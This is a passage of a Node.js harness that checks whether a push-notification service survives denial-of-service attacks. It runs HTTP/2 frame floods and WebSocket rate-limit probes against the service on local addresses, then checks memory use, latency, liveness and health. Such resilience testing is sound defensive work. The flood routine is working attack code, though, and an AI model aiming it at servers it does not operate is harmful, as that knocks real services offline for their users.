            if (refused === 0) ctx.fail(`no hello refused with 1013 (${hellos} hellos, ${answered} answered)`);
            if (answered > allowed(ctx, RATE.hello_per_min, RATE.hello_burst))
                ctx.fail(`${answered} hellos answered, more than the bucket allows`);
            return { hellos, answered, refused_1013: refused };
        },
    },
};
Object.assign(ATTACKS, RATE_LIMIT_ATTACKS);

function floodOf(kind, make) {
    return {
        what: `HTTP/2 ${kind} flood`,
        async run(ctx) {
            const src = newSource();
            let closed = 0;
            let frames = 0;
            await ctx.parallel(4, async () => {
                const s = ctx.track(await h2raw(src));
                s.pause();  // never read the ACKs: they pile up on the server unless bounded
                let i = 0;
                while (!s.destroyed && !ctx.stopped() && s.writable) {
                    const batch = [];
                    for (let k = 0; k < 200; k++) batch.push(make(i++));
                    frames += 200;
                    if (!s.write(Buffer.concat(batch))) {
                        const ok = await Promise.race([
                            new Promise((r) => s.once('drain', () => r(true)).once('close', () => r(false))),
                            sleep(1000).then(() => false),
                        ]);
                        if (!ok) break;
                    }
                }
                s.resume();
                if (await closedWithin(s, 2000)) closed++;
                s.destroy();
            }, { repeat: true });
            return { frames, connections_closed: closed };
        },
    };
}

// ---- WebSocket raw client ------------------------------------------------------------------
async function wsConnect(source) {
    const s = await connect(source).catch(() => null);
    if (!s) return null;
    const key = crypto.randomBytes(16).toString('base64');
    s.write(`GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
            `Sec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\n` +
            `Sec-WebSocket-Protocol: push-notification\r\n\r\n`);
    const ok = await new Promise((resolve) => {
        let buf = '';
        const onData = (d) => {
            buf += d.toString('latin1');
            if (buf.includes('\r\n\r\n')) {
                s.off('data', onData);
                resolve(buf.startsWith('HTTP/1.1 101'));
            }
        };
        s.on('data', onData);
        s.once('close', () => resolve(false));
        setTimeout(() => resolve(false), 2000);
    });
    if (!ok) {
        s.destroy();
        return null;
    }
    return s;
}

function wsText(text) {
    const payload = Buffer.from(text);
    const mask = crypto.randomBytes(4);
    const masked = Buffer.from(payload.map((b, i) => b ^ mask[i % 4]));
    const len = payload.length;
    const head = len < 126 ? Buffer.from([0x81, 0x80 | len])
                           : Buffer.from([0x81, 0x80 | 126, len >> 8, len & 0xff]);
    return Buffer.concat([head, mask, masked]);
}

// ---- runner --------------------------------------------------------------------------------
// The attack runs in a child process (this file with --child NAME), so its busy loops do not
// delay the prober's event loop: the latency measured is the server's, not the attacker's.
async function childMain(name) {
    const attack = ATTACKS[name];
    const started = performance.now();
    const deadline = started + MAX_ATTACK_MS;
    // The parent ends the attack by closing our stdin (see runAttack).
    let told = false;
    process.stdin.on('data', () => {}).once('end', () => (told = true));
    const failures = [];
    const tracked = new Set();
    const ctx = {
        started,
        deadline,
        prober: { pushPath: opt('push-path', '/push/x') },
        stopped: () => told || performance.now() >= deadline,
        fail: (text) => failures.push(text),
        track(s) {
            if (s) {
                tracked.add(s);
                s.once?.('close', () => tracked.delete(s));
            }
            return s;
        },
        // Runs `n` workers of `fn` in parallel until the deadline (`repeat`: each worker runs
        // fn again and again; otherwise once). Worker errors are observations, not failures.
        async parallel(n, fn, { repeat = false, maxTracked = Infinity } = {}) {
            const worker = async () => {
                do {
                    if (tracked.size >= maxTracked) {
                        await sleep(50);
                        continue;
                    }
                    await fn().catch(() => sleep(10));
                } while (repeat && !ctx.stopped());
            };
            await Promise.all(Array.from({ length: n }, worker));
        },
    };
    let observed;
    try {
        observed = await Promise.race([attack.run(ctx), sleep(MAX_ATTACK_MS + 5000).then(() => 'overran')]);
    } catch (e) {
        failures.push(`attack client failed: ${e.message}`);
    }
    for (const s of tracked) s.destroy?.();
    process.stdout.write(JSON.stringify({ observed, failures }) + '\n');
    return 0;
}

// `sourceBase`: the attack's first 127.0.0.x, distinct per attack so connections a previous
// attack left for the server to close do not count against this one's per-address limit.
async function runAttack(name, prober, sourceBase) {
    const { spawn } = await import('node:child_process');
    const child = spawn(process.execPath, [new URL(import.meta.url).pathname, '--child', name,
        ...args.filter((a) => a !== '--only'), '--push-path', prober.pushPath,
        '--source-base', String(sourceBase)],
        { stdio: ['pipe', 'pipe', 'inherit'] });
    child.stdin.on('error', () => {});  // EPIPE when the child ended on its own first
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    const exited = new Promise((resolve) => child.once('exit', resolve));
    const started = performance.now();
    let peakKb = rssKb(PID) ?? 0;
    const sampler = setInterval(() => {
        const kb = rssKb(PID);
        if (kb !== null) peakKb = Math.max(peakKb, kb);
    }, 100);
    let childDone = false;
    exited.then(() => (childDone = true));
    // Round trips for as long as the attack runs: its nominal duration, then until the prober
    // has its minimum count (the child is then told to stop), at most MAX_ATTACK_MS.
    const lat = await prober.run((count) => {
        const elapsed = performance.now() - started;
        if (elapsed >= DURATION_MS && count >= MIN_ROUND_TRIPS && !child.stdin.writableEnded) child.stdin.end();
        return childDone || elapsed > MAX_ATTACK_MS + 6000;
    });
    await exited;
    clearInterval(sampler);
    const failures = [];
    let observed;
    try {
        const r = JSON.parse(out.trim().split('\n').pop());
        observed = r.observed;
        failures.push(...r.failures);
    } catch {
        failures.push(`attack client printed no result: ${out.slice(0, 200)}`);
    }
    // Afterwards: alive and answering.
    const up = alive(PID);
    const health = up ? await fetch(`http://${CLEAR}/health`, { signal: AbortSignal.timeout(5000) })
        .then((r) => r.status).catch((e) => e.message) : 'process gone';
    if (!up) failures.push('pushsvc died');
    if (health !== 200) failures.push(`GET /health: ${health}`);
    const peakMb = peakKb / 1024;
    if (peakMb > RSS_MB) failures.push(`RSS ${peakMb.toFixed(0)} MB > ${RSS_MB} MB`);
    if (lat.count < MIN_ROUND_TRIPS) {
        failures.push(`only ${lat.count} round trips (< ${MIN_ROUND_TRIPS}) in ${MAX_ATTACK_MS / 1000} s`);
    }
    if (lat.lost) failures.push(`${lat.lost} round trips lost: ${lat.errors.join('; ')}`);
    if (!(lat.p99 <= P99_MS)) failures.push(`round-trip p99 ${lat.p99?.toFixed(1)} ms > ${P99_MS} ms`);
    if (!(lat.max <= MAX_MS)) failures.push(`round-trip max ${lat.max?.toFixed(1)} ms > ${MAX_MS} ms`);
    const line = {
        attack: name, ok: failures.length === 0, rss_peak_mb: Number(peakMb.toFixed(1)),
        round_trips: lat.count, p50_ms: Number(lat.p50?.toFixed(1)), p99_ms: Number(lat.p99?.toFixed(1)),
        max_ms: Number(lat.max?.toFixed(1)), observed, failures,
    };
    console.log(JSON.stringify(line));
    return failures.length === 0;
}

async function main() {
    if (args.includes('--list')) {
        for (const [name, a] of Object.entries(ATTACKS)) console.log(`${name}\t${a.what}`);
        return 0;
    }
    if (!CLEAR || (!PID && !opt('child'))) {
        console.error('usage: node attacks.mjs --clear HOST:PORT [--tls HOST:PORT] --pid PID [--short]');
        return 2;
    }
    const child = opt('child');
    if (child) return childMain(child);
    const prober = new Prober();
    await prober.start();
    let ok = true;
    for (const [i, name] of Object.keys(ATTACKS).entries()) {
        if (ONLY && !ONLY.includes(name)) continue;
        ok = (await runAttack(name, prober, 2 + 10 * i)) && ok;
        if (!alive(PID)) break;
        await sleep(SHORT ? 300 : 1000);  // let closed connections settle before the next
    }
    prober.close();
    return ok ? 0 : 1;
}

process.exitCode = await main();
// Anything left (a socket the server never closed) must not keep the process alive.
setTimeout(() => process.exit(process.exitCode), 200).unref();
